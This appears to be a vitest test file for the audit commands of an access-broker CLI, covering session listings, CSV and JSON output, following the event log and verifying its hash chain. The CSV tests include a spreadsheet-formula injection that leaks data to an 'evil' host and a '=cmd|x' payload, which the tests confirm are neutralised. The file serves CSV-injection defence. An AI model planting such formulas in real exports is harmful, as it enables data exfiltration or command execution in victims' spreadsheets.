import { describe, expect, it } from 'vitest';
import { timestamp } from '../../../cli/audit/entry-words.js';
import { FOLLOW_WAIT_SECONDS, PAGE_ENTRIES, eventsPath } from '../../../cli/audit/log-reader.js';
import { AccessError } from '../../../shared/errors.js';
import type { AuditEntryView, AuditEventsResponse, AuditShowResponse } from '../../../shared/wire.js';
import { parseCsv } from '../../helpers/csv.js';
import { bob, entryView, sessionView } from '../audit/views.js';
import { NOW, harness, type Call } from './fakes.js';

const NOT_AN_AUDITOR = new AccessError(
  'not_an_auditor',
  'Only members of the auditor groups (sg-audit) may read the audit log; alice@contoso.com is not in any of them. Ask an admin to add you to one of those groups.',
);

function refuse(): never {
  throw NOT_AN_AUDITOR;
}

function pageOf(entries: AuditEntryView[], afterSeq: number, head: number): AuditEventsResponse {
  return { entries, nextAfterSeq: entries.at(-1)?.seq ?? afterSeq, headSeq: head };
}

describe('access audit sessions', () => {
  it('sends each filter (a duration as typed, a time as an instant) and lists the sessions newest first', async () => {
    const until = '2025-03-04T12:00:00.000Z';
    const path = `/v1/audit/sessions?user=alice%40contoso.com&resource=prod-db&since=7d&until=${encodeURIComponent(until)}&limit=100`;
    const h = harness({
      routes: {
        [`GET ${path}`]: () => ({
          sessions: [sessionView(), sessionView({ id: 's2', closedAt: null, endReason: null, bytesUp: 0, bytesDown: 0, queries: null, reason: null })],
        }),
      },
    });
    expect(await h.run('audit', 'sessions', '--user', 'alice@contoso.com', '--resource', 'prod-db', '--since', '7d', '--until', '2025-03-04T12:00Z')).toBe(0);
    const [header, first, second] = h.stdout().split('\n');
    expect(header?.split(/\s{2,}/)).toEqual(['SESSION', 'OPENED', 'USER', 'RESOURCE', 'LASTED', 'UP', 'DOWN', 'QUERIES', 'END', 'REASON']);
    expect(first?.split(/\s{2,}/)).toEqual([
      's1a2b3',
      expect.stringMatching(/^(?:\d{4}-\d\d-\d\d )?(?:yesterday |tomorrow )?\d\d:\d\d$/),
      'alice@contoso.com',
      'prod-db',
      '3m',
      '812 B',
      '4.0 KiB',
      '3',
      'client closed',
      'INC-4211: stuck migration',
    ]);
    expect(second?.split(/\s{2,}/)).toEqual(['s2', expect.any(String), 'alice@contoso.com', 'prod-db', 'open', '0 B', '0 B', '-', 'open', '-']);
    expect(h.stderr()).toBe('');
  });

  it('prints CSV that reads back field for field: quoted reason, whole values, formulas made text', async () => {
    const sessions = [
      sessionView({ reason: 'INC-7, "the big one"' }),
      sessionView({ id: 's2', reason: '=HYPERLINK("http://evil/?"&A1)', closedAt: null, endReason: null, bytesUp: null, bytesDown: null, queries: null }),
    ];
    const h = harness({ routes: { 'GET /v1/audit/sessions?limit=100': () => ({ sessions }) } });
    expect(await h.run('audit', 'sessions', '--csv')).toBe(0);
    const [header, first, second, ...rest] = parseCsv(h.stdout());
    expect(rest).toEqual([]);
    expect(header).toEqual([
      'session_id',
      'request_id',
      'user',
      'user_oid',
      'resource',
      'target',
      'client',
      'opened_at',
      'closed_at',
      'bytes_up',
      'bytes_down',
      'queries',
      'end_reason',
      'reason',
      'break_glass',
      'post_review_verdict',
      'post_reviewer',
      'post_reviewed_at',
      'post_review_comment',
    ]);
    const s = sessions[0]!;
    expect(first).toEqual([
      s.id,
      s.requestId,
      'alice@contoso.com',
      'oid-alice',
      'prod-db',
      '10.0.0.5:5432',
      '127.0.0.1',
      s.openedAt,
      s.closedAt,
      '812',
      '4096',
      '3',
      'clientClosed',
      'INC-7, "the big one"',
      'no',
      '',
      '',
      '',
      '',
    ]);
    expect(second?.slice(8, 14)).toEqual(['', '', '', '', '', `'=HYPERLINK("http://evil/?"&A1)`]);
  });

  it('puts a break-glass session and its post-review in the CSV, the comment made safe for a spreadsheet', async () => {
    const review = {
      reviewer: { oid: 'oid-bob', upn: 'bob@contoso.com' },
      verdict: 'not_acceptable' as const,
      comment: '=cmd|x',
      at: '2025-03-04T11:00:00.000Z',
    };
    const sessions = [sessionView({ breakGlass: true, postReview: review }), sessionView({ id: 's2', breakGlass: true, postReview: null })];
    const h = harness({ routes: { 'GET /v1/audit/sessions?limit=100': () => ({ sessions }) } });
    expect(await h.run('audit', 'sessions', '--csv')).toBe(0);
    const [, reviewed, waiting] = parseCsv(h.stdout());
    expect(reviewed?.slice(14)).toEqual(['yes', 'not_acceptable', 'bob@contoso.com', '2025-03-04T11:00:00.000Z', "'=cmd|x"]);
    expect(waiting?.slice(14)).toEqual(['yes', '', '', '', '']);
  });

  it('prints the sessions as JSON', async () => {
    const h = harness({ routes: { 'GET /v1/audit/sessions?limit=100': () => ({ sessions: [sessionView()] }) } });
    expect(await h.run('audit', 'sessions', '--json')).toBe(0);
    expect(JSON.parse(h.stdout())).toEqual([sessionView()]);
  });

  it('says when the list may be cut at --limit', async () => {
    const h = harness({ routes: { 'GET /v1/audit/sessions?limit=1': () => ({ sessions: [sessionView()] }) } });
    expect(await h.run('audit', 'sessions', '--limit', '1')).toBe(0);
    expect(h.stderr()).toContain('Showing the newest 1 session; there may be more');
  });

  it('says so when nothing matches', async () => {
    const h = harness({ routes: { 'GET /v1/audit/sessions?resource=nope&limit=100': () => ({ sessions: [] }) } });
    expect(await h.run('audit', 'sessions', '--resource', 'nope')).toBe(0);
    expect(h.stdout()).toBe('No sessions match.\n');
  });

  it.each([
    [['--json', '--csv'], 'choose one of --json and --csv'],
    [['--since', 'last week'], '--since "last week" is neither a duration back from now'],
    [['--until', '2025-02-30'], '--until "2025-02-30" is neither'],
    [['--limit', '0'], '--limit "0" is not a whole number'],
  ])('refuses %j with exit 2 before calling the broker', async (args, message) => {
    const h = harness();
    expect(await h.run('audit', 'sessions', ...args)).toBe(2);
    expect(h.stderr()).toContain(message);
    expect(h.log).toEqual([]);
  });

  it("ends with exit 3 and the broker's words for someone who is not an auditor", async () => {
    const h = harness({ routes: { 'GET /v1/audit/sessions?limit=100': refuse } });
    expect(await h.run('audit', 'sessions')).toBe(3);
    expect(h.stderr()).toBe(`error: ${NOT_AN_AUDITOR.message}\n`);
    expect(h.stdout()).toBe('');
  });
});

describe('access audit show', () => {
  const story: AuditShowResponse = {
    id: 'r7f3c0a1b2',
    kind: 'request',
    requestId: 'r7f3c0a1b2',
    sessions: [sessionView()],
    entries: [
      entryView(4),
      entryView(5, { type: 'request.review_recorded', actor: bob, body: { decision: 'approve', comment: 'go ahead', reviewer: 'bob@contoso.com' } }),
      entryView(6, { type: 'request.approved', actor: bob, body: { expiresAt: new Date(NOW + 3_600_000).toISOString(), approvers: ['bob@contoso.com'] } }),
      entryView(8, { type: 'session.opened', subject: 's1a2b3', body: { requestId: 'r7f3c0a1b2', client: '127.0.0.1', target: '10.0.0.5:5432' } }),
      entryView(9, { type: 'pg.query', subject: 's1a2b3', body: { sql: 'select count(*)\nfrom orders', protocol: 'simple' } }),
      entryView(11, {
        type: 'session.closed',
        subject: 's1a2b3',
        body: { requestId: 'r7f3c0a1b2', bytesUp: 812, bytesDown: 4096, endReason: 'clientClosed', detail: null, queries: 1 },
      }),
    ],
    truncated: false,
  };

  it('tells the story: whose request, its sessions, then each entry in log order with its time', async () => {
    const h = harness({ routes: { 'GET /v1/audit/show/r7f3c0a1b2': () => story } });
    expect(await h.run('audit', 'show', 'r7f3c0a1b2')).toBe(0);
    const lines = h.stdout().split('\n');
    expect(lines[0]).toBe('Request r7f3c0a1b2 on prod-db by alice@contoso.com — 1 session');
    expect(lines[2]).toMatch(/^SESSION +OPENED +USER/);
    expect(lines[3]).toMatch(/^s1a2b3 /);
    expect(lines[5]).toMatch(/^SEQ +TIME \(UTC[+-]\d\d:\d\d\) +EVENT +BY +SUBJECT +WHAT$/);
    const rows = lines.slice(6, -1).map((line) => line.split(/\s{2,}/));
    expect(rows).toEqual([
      ['#4', timestamp(story.entries[0]!.at), 'request.created', 'alice@contoso.com', 'r7f3c0a1b2', 'asked for 1h — "INC-4211: stuck migration"'],
      ['#5', timestamp(story.entries[1]!.at), 'request.review_recorded', 'bob@contoso.com', 'r7f3c0a1b2', 'approved — "go ahead"'],
      [
        '#6',
        timestamp(story.entries[2]!.at),
        'request.approved',
        'bob@contoso.com',
        'r7f3c0a1b2',
        expect.stringMatching(/^granted, access until .* \(approved by bob@contoso\.com\)$/),
      ],
      ['#8', timestamp(story.entries[3]!.at), 'session.opened', 'alice@contoso.com', 's1a2b3', 'tunnel opened from 127.0.0.1 to 10.0.0.5:5432'],
      ['#9', timestamp(story.entries[4]!.at), 'pg.query', 'alice@contoso.com', 's1a2b3', 'select count(*) from orders'],
      ['#11', timestamp(story.entries[5]!.at), 'session.closed', 'alice@contoso.com', 's1a2b3', 'tunnel closed (client closed): ↑812 B ↓4.0 KiB, 1 query'],
    ]);
    expect(h.stderr()).toBe('');
  });

  it('names the request a session ran under, and says when the story was cut', async () => {
    const session: AuditShowResponse = { ...story, id: 's1a2b3', kind: 'session', entries: story.entries.slice(3), truncated: true };
    const h = harness({ routes: { 'GET /v1/audit/show/s1a2b3?limit=3': () => session } });
    expect(await h.run('audit', 'show', 's1a2b3', '--limit', '3')).toBe(0);
    expect(h.stdout().split('\n')[0]).toBe('Session s1a2b3 on prod-db by alice@contoso.com, under request r7f3c0a1b2');
    expect(h.stderr()).toContain('Only the first 3 entries of this story are shown');
  });

  it('prints the story as JSON, and escapes the id in the path', async () => {
    const h = harness({ routes: { 'GET /v1/audit/show/a%2Fb': () => story } });
    expect(await h.run('audit', 'show', 'a/b', '--json')).toBe(0);
    expect(JSON.parse(h.stdout())).toEqual(story);
  });
});

describe('access audit events', () => {
  it('prints the whole log in seq order, a line per entry', async () => {
    const entries = [entryView(1), entryView(2, { type: 'request.cancelled', body: {} })];
    const h = harness({ routes: { [`GET ${eventsPath(0, { limit: PAGE_ENTRIES })}`]: () => pageOf(entries, 0, 2) } });
    expect(await h.run('audit', 'events')).toBe(0);
    const lines = h.stdout().trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^#1 {2}\S+ \S+ {2}request\.created +alice@contoso\.com {2}prod-db {2}r7f3c0a1b2 {2}asked for 1h/);
    expect(lines[1]).toMatch(/request\.cancelled .* cancelled$/);
  });

  it('prints JSON Lines from --after-seq, each line the entry as the API gave it', async () => {
    const entries = [entryView(8), entryView(9)];
    const h = harness({ routes: { [`GET ${eventsPath(7, { since: '1h', limit: PAGE_ENTRIES })}`]: () => pageOf(entries, 7, 9) } });
    expect(await h.run('audit', 'events', '--jsonl', '--after-seq', '7', '--since', '1h')).toBe(0);
    expect(
      h
        .stdout()
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual(entries);
  });

  it('--follow starts at the head, long-polls for what comes next, and ends 0 on Ctrl-C', async () => {
    let answer: ((page: AuditEventsResponse) => void) | null = null;
    const calls: Call[] = [];
    const h = harness({
      routes: {
        [`GET ${eventsPath(0, { limit: 1 })}`]: () => pageOf([entryView(1)], 0, 41),
        [`GET ${eventsPath(41, { limit: PAGE_ENTRIES, wait: FOLLOW_WAIT_SECONDS })}`]: (call) => {
          calls.push(call);
          return new Promise((resolve) => (answer = resolve));
        },
        [`GET ${eventsPath(42, { limit: PAGE_ENTRIES, wait: FOLLOW_WAIT_SECONDS })}`]: (call) => {
          calls.push(call);
          return new Promise(() => undefined);
        },
      },
    });
    const running = h.run('audit', 'events', '--follow', '--jsonl');
    await expect.poll(() => calls.length).toBe(1);
    expect(h.stderr()).toBe('Following the audit log after #41 — Ctrl-C stops\n');
    expect(h.stdout()).toBe('');
    answer!(pageOf([entryView(42)], 41, 42));
    await expect.poll(() => calls.length).toBe(2);
    expect(JSON.parse(h.stdout())).toEqual(entryView(42));
    h.interrupt();
    expect(await running).toBe(0);
  });

  it('--follow --since catches up from then on before following, and names the zone of the times it prints', async () => {
    const calls: string[] = [];
    const h = harness({
      routes: {
        [`GET ${eventsPath(0, { since: '2h', limit: PAGE_ENTRIES, wait: FOLLOW_WAIT_SECONDS })}`]: (call) => {
          calls.push(call.path);
          return pageOf([entryView(7)], 0, 7);
        },
        [`GET ${eventsPath(7, { since: '2h', limit: PAGE_ENTRIES, wait: FOLLOW_WAIT_SECONDS })}`]: (call) => {
          calls.push(call.path);
          return new Promise(() => undefined);
        },
      },
    });
    const running = h.run('audit', 'events', '--follow', '--since', '2h');
    await expect.poll(() => calls.length).toBe(2);
    expect(h.stderr()).toMatch(/^Following the audit log from 2h ago \(times in UTC[+-]\d\d:\d\d\) — Ctrl-C stops\n$/);
    expect(h.stdout()).toMatch(/^#7 {2}.*request\.created/);
    h.interrupt();
    expect(await running).toBe(0);
  });

  it('refuses a bad --after-seq before calling the broker', async () => {
    const h = harness();
    expect(await h.run('audit', 'events', '--after-seq', '-3')).toBe(2);
    expect(h.stderr()).toContain('--after-seq "-3" is not a whole number');
  });
});

describe('access audit export', () => {
  it('writes JSON Lines up to the head and says on stderr where the next export resumes', async () => {
    const entries = [entryView(11), entryView(12), entryView(13)];
    const h = harness({ routes: { [`GET ${eventsPath(10, { limit: PAGE_ENTRIES })}`]: () => pageOf(entries, 10, 13) } });
    expect(await h.run('audit', 'export', '--jsonl', '--after-seq', '10')).toBe(0);
    expect(
      h
        .stdout()
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual(entries);
    expect(h.stderr()).toBe('Exported 3 entries (#11 to #13) — the next export resumes with --after-seq 13\n');
  });

  it('says when there is nothing new', async () => {
    const h = harness({ routes: { [`GET ${eventsPath(13, { limit: PAGE_ENTRIES })}`]: () => pageOf([], 13, 13) } });
    expect(await h.run('audit', 'export', '--after-seq', '13')).toBe(0);
    expect(h.stdout()).toBe('');
    expect(h.stderr()).toBe('Nothing to export after #13.\n');
  });
});

describe('access audit verify', () => {
  it('exits 0 with the count and the head hash when the chain holds', async () => {
    const head = 'ab'.repeat(32);
    const h = harness({ routes: { 'GET /v1/audit/verify': () => ({ ok: true, count: 1234, headSeq: 1234, headHash: head }) } });
    expect(await h.run('audit', 'verify')).toBe(0);
    expect(h.stdout()).toBe(`✔ The audit log is intact: 1234 entries, head #1234 ${head}\n`);
  });

  it('exits 1 naming the first bad entry and why', async () => {
    const reason = 'entry 7 (request.approved) was changed after it was written: its fields hash to aa…, but it records bb…';
    const h = harness({ routes: { 'GET /v1/audit/verify': () => ({ ok: false, count: 6, firstBadSeq: 7, problem: 'altered', reason }) } });
    expect(await h.run('audit', 'verify')).toBe(1);
    expect(h.stdout()).toBe(
      `✖ The audit log does not verify: entry #7 is altered — ${reason}\n  The 6 entries before it verify; everything from #7 on is suspect.\n`,
    );
  });

  it('prints the result as JSON with the same exit codes', async () => {
    const result = { ok: false, count: 0, firstBadSeq: 1, problem: 'missing', reason: 'entry 1 is missing: the next entry is 2' };
    const h = harness({ routes: { 'GET /v1/audit/verify': () => result } });
    expect(await h.run('audit', 'verify', '--json')).toBe(1);
    expect(JSON.parse(h.stdout())).toEqual(result);
    const text = harness({ routes: { 'GET /v1/audit/verify': () => result } });
    expect(await text.run('audit', 'verify')).toBe(1);
    expect(text.stdout()).toContain('  No entry before it verifies; everything from #1 on is suspect.\n');
  });

  it('ends with exit 3 for someone who is not an auditor', async () => {
    const h = harness({ routes: { 'GET /v1/audit/verify': refuse } });
    expect(await h.run('audit', 'verify')).toBe(3);
    expect(h.stderr()).toContain('may read the audit log');
  });
});
